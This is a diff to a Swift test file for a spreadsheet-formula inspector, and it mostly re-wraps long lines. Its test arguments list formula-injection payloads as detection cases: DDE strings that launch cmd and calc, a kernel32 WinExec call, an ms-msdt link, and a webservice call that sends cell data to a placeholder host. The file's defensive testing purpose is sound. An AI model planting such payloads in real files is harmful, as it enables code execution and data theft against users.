@@ -1,13 +1,17 @@
-@testable import Inspection
 import Testing
+
+@testable import Inspection
 
 /// Spreadsheet formulas that fetch, run or link out: one rule set for xlsx cells and CSV or text cells.
 struct FormulaTests {
     @Test(arguments: [
         "cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "SUM(1)+cmd|'/c notepad'!B2",
-        "_xlfn.IMAGE(\"https://tracker.example/p.png\")", "webservice(\"http://x.example/?\"&A1)", "RTD(\"x.y\",,\"z\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
-        "REGISTER.ID(\"a\",\"b\")", "DDE(\"cmd\";\"/c calc\";\"x\")", "HYPERLINK(\"\\\\host\\share\\doc.lnk\",\"open\")", "HYPERLINK(\"file:///C:/x.exe\")",
-        "HYPERLINK(\"ms-msdt:/id PCWDiagnostic\")", "HYPERLINK(A1,\"x\")", "'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "[book.xlsx]Sheet1!A1", "[1]Sheet1!A1",
+        "_xlfn.IMAGE(\"https://tracker.example/p.png\")", "webservice(\"http://x.example/?\"&A1)", "RTD(\"x.y\",,\"z\")",
+        "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+        "REGISTER.ID(\"a\",\"b\")", "DDE(\"cmd\";\"/c calc\";\"x\")", "HYPERLINK(\"\\\\host\\share\\doc.lnk\",\"open\")",
+        "HYPERLINK(\"file:///C:/x.exe\")",
+        "HYPERLINK(\"ms-msdt:/id PCWDiagnostic\")", "HYPERLINK(A1,\"x\")", "'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "[book.xlsx]Sheet1!A1",
+        "[1]Sheet1!A1",
         "SUM('C:\\data\\[a.xlsx]S'!A1:A3)", "cmd|' /C calc'", "Excel|Book1!R1C1", "'https://h.example/[x.xlsx]S'!A1",
     ])
     func activeFormulasAreFound(_ formula: String) {
@@ -16,7 +20,8 @@ struct FormulaTests {
 
     @Test(arguments: [
         "SUM(A1:A2)", "'My Sheet'!A1+'It''s'!B2", "Table1[[#This Row],[Amount]]*2", "SUM(Table1[Amount])", "HYPERLINK(\"https://example.com\",\"x\")",
-        "HYPERLINK(\"#Sheet2!A1\")", "HYPERLINK(\"mailto:a@example.com\")", "\"IMAGE(\"&A1", "CONCAT(\"a|b\",\"!\")", "MYIMAGE(1)+CALLS", "IF(A1>0,\"|\",\"!\")",
+        "HYPERLINK(\"#Sheet2!A1\")", "HYPERLINK(\"mailto:a@example.com\")", "\"IMAGE(\"&A1", "CONCAT(\"a|b\",\"!\")", "MYIMAGE(1)+CALLS",
+        "IF(A1>0,\"|\",\"!\")",
     ])
     func ordinaryFormulasAreClean(_ formula: String) {
         #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
